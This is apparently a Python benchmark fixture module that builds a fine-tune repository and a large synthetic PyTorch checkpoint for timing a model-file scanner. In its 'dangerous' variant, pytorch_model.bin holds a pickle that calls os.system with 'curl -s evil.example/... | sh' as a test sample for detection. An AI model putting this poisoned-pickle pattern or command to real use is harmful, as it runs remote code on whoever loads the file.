"""The files the scan benchmark serves and times: a fine-tune's repository of small files, and a
PyTorch checkpoint of about 2 GB. Built with the scanning tests' opcode writers
(tests/scanning/corpus.py) where they fit; nothing here unpickles.
"""

from __future__ import annotations

import json
import math
import pickle
import random
import struct
import zipfile
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

from tests.scanning import corpus

# --- a repository of small files ------------------------------------------------------------------


@dataclass(frozen=True)
class SmallFile:
    path: str
    data: bytes
    # What the scan may record; anything else means the benchmark timed something other than scans.
    verdicts: frozenset[str]


CLEAN = frozenset({"clean"})
DANGEROUS = frozenset({"dangerous"})
# Text is skipped where no analyser reads it, and clean once one looks for secrets in it.
TEXT = frozenset({"clean", "skipped"})


def repository_files(token: str, *, dangerous: bool) -> list[SmallFile]:
    """Ten files as a fine-tune's repository holds them: configs and a card (text), safetensors
    weights (headers checked), PyTorch checkpoints and pickled training state (both pickle
    analysers). In a `dangerous` repository the checkpoint runs a shell command. `token` is in
    every file, so each repository's bytes are new to hubmod: fetched and analysed, not answered
    from an earlier run's verdict."""
    config = {"architectures": ["LlamaForCausalLM"], "hidden_size": 64, "num_hidden_layers": 2, "_name": token}
    tensors = {f"model.{token}.weight": 4, "model.norm.bias": 2}
    if dangerous:
        weights = corpus.torch_zip(corpus.pickle_call(2, "os", "system", f"curl -s evil.example/{token} | sh"))
    else:
        weights = corpus.torch_zip(corpus.pickle_torch_state_dict(tensors))
    return [
        SmallFile("config.json", json.dumps(config, indent=2).encode(), TEXT),
        SmallFile("generation_config.json", json.dumps({"max_length": 2048, "_from": token}).encode(), TEXT),
        SmallFile("tokenizer_config.json", json.dumps({"model_max_length": 2048, "_from": token}).encode(), TEXT),
        SmallFile("README.md", f"# {token}\n\nA fine-tune for the benchmark.\n".encode(), TEXT),
        SmallFile("model.safetensors", _safetensors(token, rows=64), CLEAN),
        SmallFile("adapter_model.safetensors", _safetensors(token, rows=8), CLEAN),
        SmallFile("pytorch_model.bin", weights, DANGEROUS if dangerous else CLEAN),
        SmallFile("optimizer.pt", corpus.torch_zip(corpus.pickle_torch_state_dict({f"state.{token}": 8})), CLEAN),
        SmallFile("training_args.bin", pickle.dumps({"learning_rate": 2e-5, "run_name": token}, protocol=4), CLEAN),
        SmallFile("rng_state.pth", pickle.dumps({"python": [3, 14, 15], "seed": token}, protocol=2), CLEAN),
    ]


def _safetensors(token: str, *, rows: int) -> bytes:
    """A float16 matrix of `rows` x 64 with the run's token in its metadata, as safetensors lays it out."""
    size = rows * 64 * 2
    header = {
        "__metadata__": {"format": "pt", "source": token},
        "weight": {"dtype": "F16", "shape": [rows, 64], "data_offsets": [0, size]},
    }
    return corpus.safetensors(header, bytes(size))


# --- a PyTorch checkpoint of about 2 GB ------------------------------------------------------------

# TinyLlama-1.1B's shapes (hidden 2048, MLP 5632, vocabulary 32,000) with 18 of its 22 layers:
# 165 float16 tensors, 2,111,983,616 bytes of them.
HIDDEN, MLP, VOCAB, LAYERS = 2048, 5632, 32_000, 18
FLOAT16_BYTES = 2
CHUNK = 1024 * 1024


def llama_shapes(
    *, hidden: int = HIDDEN, mlp: int = MLP, vocab: int = VOCAB, layers: int = LAYERS
) -> dict[str, tuple[int, ...]]:
    """A Llama state dict's tensor names and shapes, in the order `state_dict()` lists them."""
    shapes: dict[str, tuple[int, ...]] = {"model.embed_tokens.weight": (vocab, hidden)}
    for n in range(layers):
        layer = f"model.layers.{n}."
        for projection in ("q_proj", "k_proj", "v_proj", "o_proj"):
            shapes[f"{layer}self_attn.{projection}.weight"] = (hidden, hidden)
        shapes[f"{layer}mlp.gate_proj.weight"] = (mlp, hidden)
        shapes[f"{layer}mlp.up_proj.weight"] = (mlp, hidden)
        shapes[f"{layer}mlp.down_proj.weight"] = (hidden, mlp)
        shapes[f"{layer}input_layernorm.weight"] = (hidden,)
        shapes[f"{layer}post_attention_layernorm.weight"] = (hidden,)
    shapes["model.norm.weight"] = (hidden,)
    shapes["lm_head.weight"] = (vocab, hidden)
    return shapes


def checkpoint_write(path: Path, shapes: dict[str, tuple[int, ...]]) -> int:
    """Write `shapes` as torch.save writes a float16 state dict to `path`; returns the tensor bytes.

    The records in torch 2.x's order: `_save()` in pytorch/pytorch's torch/serialization.py writes
    `<name>/data.pkl`, `.format_version`, `.storage_alignment`, `byteorder` and one `data/<key>` per
    storage; PyTorchStreamWriter::writeEndOfFile() adds `version` and `.data/serialization_id`
    (caffe2/serialize/inline_container.cc at 3834689c5e3caabf546aa98d83f47387ca50e684). Stored,
    never compressed, each record's bytes on a 64-byte boundary. The tensors hold one random megabyte over and over: the
    analysers never look at them, and a disk read costs the same whatever they hold.
    """
    pattern = bytearray(random.Random(20).randbytes(CHUNK))
    # A storage that began with a pickle protocol header would be read as a pickle (sniff.py).
    pattern[0:2] = struct.pack("<e", 1.0)
    block = memoryview(pattern)
    prefix = path.name.rsplit(".", 1)[0]  # torch names the folder after the file
    sizes = [math.prod(shape) * FLOAT16_BYTES for shape in shapes.values()]
    with open(path, "wb") as file, zipfile.ZipFile(file, "w", compression=zipfile.ZIP_STORED) as archive:
        records = [
            ("data.pkl", state_dict_pickle(shapes)),
            (".format_version", b"1"),
            (".storage_alignment", b"64"),
            ("byteorder", b"little"),
        ]
        for name, data in records:
            _record_write(archive, file.tell(), f"{prefix}/{name}", [data])
        for key, size in enumerate(sizes):
            chunks = (block[: min(CHUNK, size - offset)] for offset in range(0, size, CHUNK))
            _record_write(archive, file.tell(), f"{prefix}/data/{key}", chunks)
        _record_write(archive, file.tell(), f"{prefix}/version", [b"3\n"])
        _record_write(archive, file.tell(), f"{prefix}/.data/serialization_id", [b"%040d" % len(sizes)])
        file.flush()
    return sum(sizes)


def _record_write(archive: zipfile.ZipFile, cursor: int, name: str, chunks: Iterable[bytes | memoryview]) -> None:
    # getPadding() in inline_container.cc: an extra field "FB" of 'Z's puts the record's bytes on
    # a 64-byte boundary, past the 30-byte local header, the name and the 4 bytes of the field's own header.
    start = cursor + 30 + len(name) + 4
    padding = -start % 64
    info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
    info.extra = b"FB" + struct.pack("<H", padding) + b"Z" * padding
    with archive.open(info, "w") as record:
        for chunk in chunks:
            record.write(chunk)


def state_dict_pickle(shapes: dict[str, tuple[int, ...]]) -> bytes:
    """data.pkl of a float16 state dict, protocol 2 as torch.save writes it: an OrderedDict of
    `torch._utils._rebuild_tensor_v2(storage, 0, size, stride, False, OrderedDict())`, each storage a
    persistent id `("storage", torch.HalfStorage, "<key>", "cpu", numel)` (BINPERSID).

    tests/scanning/corpus.py writes the same shape with one-byte sizes; a checkpoint's need more."""
    body = b"\x80\x02ccollections\nOrderedDict\n)R("  # OrderedDict(), MARK for SETITEMS
    for key, (name, shape) in enumerate(shapes.items()):
        strides = [math.prod(shape[axis + 1 :]) for axis in range(len(shape))]
        storage = b"(" + _text("storage") + b"ctorch\nHalfStorage\n" + _text(str(key)) + _text("cpu")
        storage += _int(math.prod(shape)) + b"tQ"  # TUPLE, BINPERSID
        arguments = storage + _int(0) + _ints(shape) + _ints(strides) + b"\x89"  # NEWFALSE: requires_grad
        arguments += b"ccollections\nOrderedDict\n)R"  # backward hooks
        body += _text(name) + b"ctorch._utils\n_rebuild_tensor_v2\n(" + arguments + b"tR"
    return body + b"u."  # SETITEMS, STOP


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw  # BINUNICODE


def _int(value: int) -> bytes:
    if value < 256:
        return b"K" + bytes([value])  # BININT1
    if value < 65536:
        return b"M" + struct.pack("<H", value)  # BININT2
    return b"J" + struct.pack("<i", value)  # BININT


def _ints(values: Iterable[int]) -> bytes:
    return b"(" + b"".join(_int(v) for v in values) + b"t"
